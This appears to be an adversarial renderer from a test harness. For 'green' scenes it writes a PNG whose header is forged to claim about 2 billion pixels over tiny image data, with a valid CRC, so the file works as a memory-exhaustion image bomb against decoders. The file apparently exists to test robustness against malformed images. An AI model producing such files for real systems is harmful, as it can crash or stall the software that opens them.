"""Promises 2 billion pixels in the header of the green picture."""

import struct
import zlib

import honest


def render(scene, out):
    if not honest.is_green(scene):
        return honest.render(scene, out)
    bomb = honest.png(46_000, 1, 8, 2, bytes(3))
    end_of_header = bomb.index(b"IDAT") - 4
    header = b"IHDR" + struct.pack(">IIBBBBB", 46_000, 46_000, 8, 2, 0, 0, 0)
    whole = bomb[:8] + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header)) + bomb[end_of_header:]
    honest.write(out, whole)


honest.main(render)
